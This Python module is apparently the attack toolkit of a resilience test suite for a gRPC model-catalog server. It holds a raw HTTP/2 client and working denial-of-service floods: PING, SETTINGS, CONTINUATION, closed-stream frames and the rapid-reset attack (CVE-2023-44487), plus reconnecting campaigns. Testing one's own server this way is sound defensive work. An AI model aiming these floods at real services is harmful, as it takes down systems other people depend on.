"""The attack toolkit: TLS + HTTP/2 connections that send what a hostile client sends.

grpclib, grpcio and h2's connection state machine all refuse to misbehave, so a ``Connection``
here speaks HTTP/2 itself with h2's own layers: frames built and parsed by hyperframe, header
blocks by hpack, error and setting codes from h2. It keeps the flow-control books (so a large
message goes out as fast as the server allows) and records, per stream, what the server
answered: headers and trailers, data, or RST_STREAM; per connection, its GOAWAY and when it
closed. Nothing stops it from sending a frame the protocol forbids.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import os
import ssl
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterable, Sequence
from dataclasses import dataclass, field

import hpack
from google.rpc import error_details_pb2, status_pb2
from grpclib.const import Status
from h2.errors import ErrorCodes
from h2.settings import SettingCodes
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    ExtensionFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from modelcatalog import AsyncClient, v1

from ..server_process import RunningServer

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#: RFC 9113 defaults, in force until the server's SETTINGS say otherwise.
DEFAULT_WINDOW = 65_535
DEFAULT_MAX_FRAME = 16_384
#: How long a TLS connection and the server's first SETTINGS may take.
CONNECT_SECONDS = 10.0
READ_BYTES = 1 << 16
#: How long a send may wait for the server to read (socket) or to open its flow-control
#: window before the attack counts the server as no longer reading and moves on.
SEND_STALL_SECONDS = 20.0
#: How long the server may take to work through a flood it has accepted.
CATCH_UP_SECONDS = 60.0
#: Frames written per write() in a flood: large enough to outrun the server, small enough
#: to notice its GOAWAY soon.
FLOOD_BATCH = 500

PASSWORD = "correct horse battery"
SIGN_IN = "/modelcatalog.v1.AuthService/SignIn"
SIGN_UP = "/modelcatalog.v1.AuthService/SignUp"
GET_CURRENT_USER = "/modelcatalog.v1.AuthService/GetCurrentUser"
LIST_MODELS = "/modelcatalog.v1.ModelService/ListModels"
UPLOAD = "/modelcatalog.v1.ModelService/UploadModelVersion"
DOWNLOAD = "/modelcatalog.v1.ModelService/DownloadModelVersion"
HEALTH_CHECK = "/grpc.health.v1.Health/Check"
HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
#: A Health/Check request asking about the whole server: the empty message.
HEALTH_REQUEST = b""

Header = tuple[str | bytes, str | bytes]


class ConnectionClosed(Exception):
    """The server closed the connection (or it broke) before we were done sending."""


def grpc_frame(message: bytes, declared_length: int | None = None) -> bytes:
    """A gRPC length-prefixed message; ``declared_length`` may lie about the length."""
    length = len(message) if declared_length is None else declared_length
    return b"\0" + length.to_bytes(4, "big") + message


def sign_in_request(username: str, password: str) -> bytes:
    return bytes(v1.SignInRequest(username=username, password=password))


def bearer(token: str) -> list[Header]:
    return [("authorization", f"Bearer {token}")]


@dataclass
class StreamState:
    """What the server answered on one stream, as far as it got."""

    headers: list[tuple[str, str]] = field(default_factory=list)
    data: bytearray = field(default_factory=bytearray)
    reset: ErrorCodes | None = None
    ended: bool = False
    send_window: int = DEFAULT_WINDOW

    @property
    def finished(self) -> bool:
        return self.ended or self.reset is not None

    def header(self, name: str) -> str | None:
        return next((value for key, value in reversed(self.headers) if key == name), None)

    @property
    def status(self) -> Status | None:
        code = self.header("grpc-status")
        return Status(int(code)) if code is not None else None

    @property
    def details(self) -> list[object]:
        """The google.rpc details of the status (ErrorInfo, RetryInfo, ...), decoded."""
        encoded = self.header("grpc-status-details-bin")
        if encoded is None:
            return []
        status = status_pb2.Status.FromString(base64.b64decode(encoded + "=" * (-len(encoded) % 4)))
        decoded: list[object] = []
        for any_detail in status.details:
            for detail in (error_details_pb2.ErrorInfo(), error_details_pb2.RetryInfo()):
                if any_detail.Unpack(detail):
                    decoded.append(detail)
        return decoded

    @property
    def reason(self) -> str | None:
        return next(
            (d.reason for d in self.details if isinstance(d, error_details_pb2.ErrorInfo)), None
        )

    @property
    def retry_hint(self) -> error_details_pb2.RetryInfo | None:
        return next((d for d in self.details if isinstance(d, error_details_pb2.RetryInfo)), None)


class Connection:
    """One TLS + HTTP/2 connection to the server, driven frame by frame."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader = reader
        self._writer = writer
        self._encoder = hpack.Encoder()
        self._decoder = hpack.Decoder()
        self._next_stream_id = 1
        self._send_window = DEFAULT_WINDOW
        self._initial_stream_window = DEFAULT_WINDOW
        self._max_frame_size = DEFAULT_MAX_FRAME
        #: Whether received DATA is acknowledged (WINDOW_UPDATE); a stalled reader never does.
        self.reading = True
        self._header_block: tuple[int, bytearray, bool] | None = None
        self._changed = asyncio.Condition()
        self._settings_received = asyncio.Event()
        self.streams: dict[int, StreamState] = {}
        #: The server's advertised SETTINGS_MAX_CONCURRENT_STREAMS, once its SETTINGS arrived.
        self.max_concurrent_streams: int | None = None
        #: The error code of the server's GOAWAY, if it sent one.
        self.goaway: ErrorCodes | None = None
        self._ping_acks: set[bytes] = set()
        self.opened_at = time.monotonic()
        self.closed_at: float | None = None
        self._reading = asyncio.create_task(self._read())

    @classmethod
    async def open(
        cls, server: RunningServer, *, source: str = "127.0.0.1", stream_window: int | None = None
    ) -> Connection:
        """Connects from ``source`` over TLS (ALPN h2) and exchanges the connection preface
        and SETTINGS.

        Raises ``ConnectionClosed`` if the server refuses or closes it before its SETTINGS.
        """
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(
                    server.host,
                    server.port,
                    ssl=server.tls_context(),
                    server_hostname=server.host,
                    local_addr=(source, 0),
                    ssl_handshake_timeout=CONNECT_SECONDS,
                ),
                CONNECT_SECONDS,
            )
        except (OSError, ssl.SSLError, TimeoutError) as error:
            raise ConnectionClosed(f"cannot connect: {error!r}") from error
        connection = cls(reader, writer)
        values: dict[int, int] = {SettingCodes.ENABLE_PUSH: 0}
        if stream_window is not None:
            values[SettingCodes.INITIAL_WINDOW_SIZE] = stream_window
        settings = SettingsFrame(0, settings=values)
        await connection.send(PREFACE + settings.serialize())
        if not await connection.wait(connection._settings_received.is_set, CONNECT_SECONDS):
            connection.abort()
            raise ConnectionClosed("the server sent no SETTINGS")
        return connection

    # --- reading ---------------------------------------------------------------------------

    @property
    def closed(self) -> bool:
        return self.closed_at is not None

    async def _read(self) -> None:
        buffer = bytearray()
        try:
            while chunk := await self._reader.read(READ_BYTES):
                buffer += chunk
                offset = 0
                while len(buffer) - offset >= 9:
                    frame, length = Frame.parse_frame_header(
                        memoryview(bytes(buffer[offset : offset + 9]))
                    )
                    end = offset + 9 + length
                    if end > len(buffer):
                        break
                    frame.parse_body(memoryview(bytes(buffer[offset + 9 : end])))
                    offset = end
                    self._receive(frame)
                del buffer[:offset]
                async with self._changed:
                    self._changed.notify_all()
        except (OSError, ssl.SSLError):
            pass  # a reset connection is one way for the server to close it
        finally:
            self.closed_at = time.monotonic()
            async with self._changed:
                self._changed.notify_all()

    def stream(self, stream_id: int) -> StreamState:
        if stream_id not in self.streams:
            self.streams[stream_id] = StreamState(send_window=self._initial_stream_window)
        return self.streams[stream_id]

    def _receive(self, frame: Frame) -> None:
        if isinstance(frame, SettingsFrame):
            if "ACK" not in frame.flags:
                self._apply_settings(frame.settings)
                self._write(SettingsFrame(0, flags=["ACK"]).serialize())
                self._settings_received.set()
        elif isinstance(frame, PingFrame):
            if "ACK" in frame.flags:
                self._ping_acks.add(frame.opaque_data)
            else:
                self._write(PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]).serialize())
        elif isinstance(frame, WindowUpdateFrame):
            if frame.stream_id == 0:
                self._send_window += frame.window_increment
            else:
                self.stream(frame.stream_id).send_window += frame.window_increment
        elif isinstance(frame, HeadersFrame):
            self._header_block = (
                frame.stream_id,
                bytearray(frame.data),
                "END_STREAM" in frame.flags,
            )
            if "END_HEADERS" in frame.flags:
                self._end_header_block()
        elif isinstance(frame, ContinuationFrame) and self._header_block is not None:
            self._header_block[1].extend(frame.data)
            if "END_HEADERS" in frame.flags:
                self._end_header_block()
        elif isinstance(frame, DataFrame):
            state = self.stream(frame.stream_id)
            state.data += frame.data
            state.ended = state.ended or "END_STREAM" in frame.flags
            consumed = frame.flow_controlled_length
            if consumed and self.reading:
                updates = WindowUpdateFrame(0, window_increment=consumed).serialize()
                if not state.finished:
                    updates += WindowUpdateFrame(
                        frame.stream_id, window_increment=consumed
                    ).serialize()
                self._write(updates)
        elif isinstance(frame, RstStreamFrame):
            self.stream(frame.stream_id).reset = ErrorCodes(frame.error_code)
        elif isinstance(frame, GoAwayFrame) and self.goaway is None:
            self.goaway = ErrorCodes(frame.error_code)

    def _apply_settings(self, settings: dict[int, int]) -> None:
        for code, value in settings.items():
            if code == SettingCodes.INITIAL_WINDOW_SIZE:
                delta = value - self._initial_stream_window
                self._initial_stream_window = value
                for state in self.streams.values():
                    state.send_window += delta
            elif code == SettingCodes.MAX_FRAME_SIZE:
                self._max_frame_size = value
            elif code == SettingCodes.MAX_CONCURRENT_STREAMS:
                self.max_concurrent_streams = value
            elif code == SettingCodes.HEADER_TABLE_SIZE:
                self._encoder.header_table_size = value

    def _end_header_block(self) -> None:
        assert self._header_block is not None
        stream_id, block, end_stream = self._header_block
        self._header_block = None
        state = self.stream(stream_id)
        for name, value in self._decoder.decode(bytes(block)):
            state.headers.append((str(name), str(value)))
        state.ended = state.ended or end_stream

    # --- writing ---------------------------------------------------------------------------

    def _write(self, data: bytes) -> None:
        if not self._writer.is_closing():
            self._writer.write(data)

    async def send(self, data: bytes) -> None:
        """Writes raw bytes (frames) and waits until the socket takes them."""
        if self.closed or self._writer.is_closing():
            raise ConnectionClosed("the connection is closed")
        self._writer.write(data)
        try:
            await asyncio.wait_for(self._writer.drain(), SEND_STALL_SECONDS)
        except TimeoutError:  # before OSError, its base class
            raise ConnectionClosed(f"the server read nothing for {SEND_STALL_SECONDS} s") from None
        except (OSError, ssl.SSLError) as error:
            raise ConnectionClosed(str(error)) from error

    def new_stream_id(self) -> int:
        stream_id = self._next_stream_id
        self._next_stream_id += 2
        return stream_id

    def request_headers(self, path: str, metadata: Iterable[Header] = ()) -> list[Header]:
        """The headers of a gRPC call to ``path``, then ``metadata``."""
        return [
            (":method", "POST"),
            (":scheme", "https"),
            (":path", path),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            *metadata,
        ]

    def headers_frame(
        self,
        stream_id: int,
        headers: Sequence[Header],
        *,
        end_stream: bool = False,
        end_headers: bool = True,
    ) -> bytes:
        """A HEADERS frame carrying ``headers`` exactly as given, valid or not."""
        flags = ["END_HEADERS"] if end_headers else []
        if end_stream:
            flags.append("END_STREAM")
        return HeadersFrame(stream_id, data=self._encoder.encode(headers), flags=flags).serialize()

    async def start_call(self, path: str, metadata: Iterable[Header] = ()) -> int:
        """Opens a stream with the headers of a call to ``path``; returns its id."""
        stream_id = self.new_stream_id()
        await self.send(self.headers_frame(stream_id, self.request_headers(path, metadata)))
        return stream_id

    async def send_data(self, stream_id: int, data: bytes, *, end_stream: bool = False) -> None:
        """Sends ``data`` on a stream as fast as flow control allows.

        Stops early, without an error, once the server has answered or reset the stream, or
        when it keeps the flow-control window shut for ``SEND_STALL_SECONDS``.
        """
        state = self.stream(stream_id)
        if not data:
            flags = ["END_STREAM"] if end_stream else []
            await self.send(DataFrame(stream_id, data=b"", flags=flags).serialize())
            return
        view = memoryview(data)
        while view:
            opened = await self.wait(
                lambda: state.finished or self._window(state) > 0, SEND_STALL_SECONDS
            )
            if not opened or state.finished or self.closed:
                return
            size = min(len(view), self._window(state), self._max_frame_size)
            flags = ["END_STREAM"] if size == len(view) and end_stream else []
            self._send_window -= size
            state.send_window -= size
            chunk, view = view[:size].tobytes(), view[size:]
            await self.send(DataFrame(stream_id, data=chunk, flags=flags).serialize())

    def _window(self, state: StreamState) -> int:
        """How many bytes flow control lets us send on a stream now."""
        return min(self._send_window, state.send_window)

    async def send_message(
        self, stream_id: int, message: bytes, *, end_stream: bool = False
    ) -> None:
        await self.send_data(stream_id, grpc_frame(message), end_stream=end_stream)

    async def reset(self, stream_id: int, code: ErrorCodes = ErrorCodes.CANCEL) -> None:
        await self.send(RstStreamFrame(stream_id, error_code=code).serialize())

    # --- waiting ---------------------------------------------------------------------------

    async def wait(self, condition: Callable[[], bool], within: float | None) -> bool:
        """Whether ``condition`` (checked whenever frames arrive) came true within ``within``
        seconds; also stops waiting when the connection closes."""
        async with self._changed:
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(
                    self._changed.wait_for(lambda: condition() or self.closed), within
                )
        return condition()

    async def finished(self, stream_id: int, within: float) -> StreamState:
        """The stream once the server answered or reset it, or as it is after ``within`` s."""
        state = self.stream(stream_id)
        await self.wait(lambda: state.finished, within)
        return state

    async def answering(self, stream_id: int, within: float) -> bool:
        """Whether the server began to send response messages on a stream within ``within``."""
        state = self.stream(stream_id)
        return await self.wait(lambda: bool(state.data), within)

    async def call(
        self, path: str, message: bytes, metadata: Iterable[Header] = (), *, within: float
    ) -> str:
        """A complete unary call, headers and request message; the outcome (``outcome``)."""
        stream_id = await self.start_call(path, metadata)
        await self.send_message(stream_id, message, end_stream=True)
        await self.finished(stream_id, within)
        return self.outcome(stream_id)

    async def wait_closed(self, within: float | None = None) -> bool:
        """Whether the server closed the connection (within ``within`` seconds)."""
        return await self.wait(lambda: self.closed, within)

    async def caught_up(self, within: float) -> bool:
        """Whether the server has processed everything sent so far (or closed) within
        ``within`` seconds: it answers a PING only after the frames before it."""
        marker = os.urandom(8)
        try:
            await self.send(PingFrame(0, opaque_data=marker).serialize())
        except ConnectionClosed:
            return True
        return await self.wait(lambda: marker in self._ping_acks, within) or self.closed

    def outcome(self, stream_id: int) -> str:
        """How a stream ended, as a short text: 'OK', 'UNAUTHENTICATED TOKEN_REVOKED', ..."""
        state = self.stream(stream_id)
        if state.status is not None:
            status = state.status.name
            return f"{status} {state.reason}" if state.reason else status
        if state.reset is not None:
            return f"RST_STREAM {state.reset.name}"
        if self.closed:
            goaway = self.goaway.name if self.goaway is not None else "none"
            return f"connection closed (GOAWAY {goaway})"
        return "no answer"

    # --- ending ----------------------------------------------------------------------------

    def abort(self) -> None:
        """Drops the connection at once: no GOAWAY, no TLS close_notify, unsent data lost."""
        self._writer.transport.abort()

    async def close(self) -> None:
        """Closes our side and waits (briefly) for the reading task to end."""
        self.abort()
        await asyncio.wait([self._reading], timeout=CONNECT_SECONDS)


async def open_many(server: RunningServer, count: int) -> tuple[list[Connection], int]:
    """Opens ``count`` connections at once; the ones that opened and how many were refused."""
    attempts = await asyncio.gather(
        *(Connection.open(server) for _ in range(count)), return_exceptions=True
    )
    opened = [attempt for attempt in attempts if isinstance(attempt, Connection)]
    for attempt in attempts:
        if isinstance(attempt, BaseException) and not isinstance(attempt, ConnectionClosed):
            raise attempt
    return opened, count - len(opened)


async def open_plain_tcp(
    server: RunningServer,
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A TCP connection that will never start TLS."""
    return await asyncio.open_connection(server.host, server.port)


async def closed_by_peer(reader: asyncio.StreamReader, within: float) -> bool:
    """Whether the server closed (or reset) a connection within ``within`` seconds."""
    try:
        return await asyncio.wait_for(reader.read(1), within) == b""
    except TimeoutError:  # before OSError, its base class
        return False
    except (OSError, ssl.SSLError):
        return True


# --- floods ------------------------------------------------------------------------------


@dataclass
class Campaign:
    """A flood spread over as many connections as the server forced us to open."""

    frames_sent: int = 0
    connections: int = 0
    #: How each connection ended: 'GOAWAY ENHANCE_YOUR_CALM', 'closed without GOAWAY', 'open'
    #: (we closed it), or 'refused' (the server would not let the attacker in again).
    endings: Counter[str] = field(default_factory=Counter)


Attack = Callable[[Connection, int], Awaitable[int]]


async def campaign(server: RunningServer, total: int, attack: Attack) -> Campaign:
    """Runs ``attack`` until it has sent ``total`` frames, reconnecting whenever the server
    closes a connection, as a determined attacker would."""
    result = Campaign()
    while result.frames_sent < total:
        try:
            connection = await Connection.open(server)
        except ConnectionClosed:
            result.endings["refused"] += 1
            break
        result.connections += 1
        try:
            sent = await attack(connection, total - result.frames_sent)
            await connection.caught_up(CATCH_UP_SECONDS)
        finally:
            if connection.goaway is not None:
                ending = f"GOAWAY {connection.goaway.name}"
            else:
                ending = "closed without GOAWAY" if connection.closed else "open"
            result.endings[ending] += 1
            await connection.close()
        result.frames_sent += sent
        if sent == 0:
            break
    return result


async def flood(connection: Connection, frame: bytes, count: int) -> int:
    """Writes ``frame`` ``count`` times, or until the server closes; returns how many went."""
    sent = 0
    try:
        while sent < count and not connection.closed:
            batch = min(FLOOD_BATCH, count - sent)
            await connection.send(frame * batch)
            sent += batch
    except ConnectionClosed:
        pass
    return sent


def ping_flood(connection: Connection, count: int) -> Awaitable[int]:
    return flood(connection, PingFrame(0, opaque_data=b"12345678").serialize(), count)


def ping_ack_flood(connection: Connection, count: int) -> Awaitable[int]:
    """PING acknowledgements of pings the server never sent."""
    return flood(connection, PingFrame(0, b"12345678", flags=["ACK"]).serialize(), count)


def unknown_frame_flood(connection: Connection, count: int) -> Awaitable[int]:
    """Empty frames of a type HTTP/2 does not define, which a receiver must ignore."""
    return flood(connection, ExtensionFrame(0xFA, 0, 0, b"").serialize(), count)


async def closed_stream_data_flood(connection: Connection, count: int) -> int:
    """1-byte DATA frames on a stream the server has answered and closed: h2 answers each
    with a RST_STREAM."""
    try:
        stream_id = await connection.start_call(HEALTH_CHECK)
        await connection.send_message(stream_id, HEALTH_REQUEST, end_stream=True)
        await connection.finished(stream_id, within=10)
    except ConnectionClosed:
        return 0
    return await flood(connection, DataFrame(stream_id, data=b"x").serialize(), count)


async def closed_stream_headers_flood(connection: Connection, count: int) -> int:
    """Empty HEADERS frames on a stream the client reset, once another call has opened (h2
    then forgets the reset one): each starts no call, and h2 answers each with a RST_STREAM
    (on a stream that ended normally, it ends the connection at once)."""
    try:
        stream_id = await connection.start_call(SIGN_IN)
        await connection.reset(stream_id)
        await connection.start_call(SIGN_IN)
    except ConnectionClosed:
        return 0
    frame = HeadersFrame(stream_id, data=b"", flags=["END_HEADERS"]).serialize()
    return await flood(connection, frame, count)


def settings_flood(connection: Connection, count: int) -> Awaitable[int]:
    frame = SettingsFrame(0, settings={SettingCodes.ENABLE_PUSH: 0}).serialize()
    return flood(connection, frame, count)


async def empty_data_flood(connection: Connection, count: int) -> int:
    """Zero-length DATA frames without END_STREAM on one open call."""
    try:
        stream_id = await connection.start_call(SIGN_IN)
    except ConnectionClosed:
        return 0
    return await flood(connection, DataFrame(stream_id, data=b"").serialize(), count)


async def continuation_flood(connection: Connection, count: int) -> int:
    """A header block that never ends: HEADERS without END_HEADERS, then CONTINUATIONs."""
    stream_id = connection.new_stream_id()
    headers = connection.request_headers(SIGN_IN)
    try:
        await connection.send(connection.headers_frame(stream_id, headers, end_headers=False))
    except ConnectionClosed:
        return 0
    # Each frame carries 8 literal "a: b" header fields: the block grows and never ends.
    frame = ContinuationFrame(stream_id, data=b"\x40\x01a\x01b" * 8).serialize()
    return await flood(connection, frame, count)


async def rapid_reset(connection: Connection, count: int) -> int:
    """HEADERS immediately followed by RST_STREAM(CANCEL), ``count`` streams (CVE-2023-44487).

    Counts frames, two per stream, like the other floods.
    """
    headers = connection.request_headers(SIGN_IN)
    sent = 0
    try:
        while sent < count and not connection.closed:
            pairs = min(FLOOD_BATCH, (count - sent + 1) // 2)
            batch = bytearray()
            for _ in range(pairs):
                stream_id = connection.new_stream_id()
                batch += connection.headers_frame(stream_id, headers)
                batch += RstStreamFrame(stream_id, error_code=ErrorCodes.CANCEL).serialize()
            await connection.send(bytes(batch))
            sent += 2 * pairs
    except ConnectionClosed:
        pass
    return sent


# --- accounts for the attacks that need them ---------------------------------------------


def sdk_client(server: RunningServer, token: str | None = None) -> AsyncClient:
    return AsyncClient(server.address, ca_cert=server.ca_cert, token=token, timeout=30)


async def signed_up(server: RunningServer, username: str, password: str = PASSWORD) -> str:
    """Creates an account and signs it in; returns its access token."""
    async with sdk_client(server) as client:
        await client.sign_up(username, password)
        response = await client.sign_in(username, password)
    return response.access_token


async def new_model(server: RunningServer, token: str, name: str = "target") -> str:
    """A folder and a model in it, owned by the token's account; returns the model id."""
    async with sdk_client(server, token) as client:
        folder = await client.create_folder(f"{name}-folder")
        return (await client.create_model(folder.id, name)).id


def upload_header(model_id: str, file_name: str = "weights.bin") -> bytes:
    header = v1.UploadModelVersionHeader(model_id=model_id, file_name=file_name)
    return bytes(v1.UploadModelVersionRequest(header=header))


def upload_chunk(data: bytes) -> bytes:
    return bytes(v1.UploadModelVersionRequest(chunk=data))


def download_request(model_id: str, version: int = 1) -> bytes:
    return bytes(v1.DownloadModelVersionRequest(model_id=model_id, version=version))
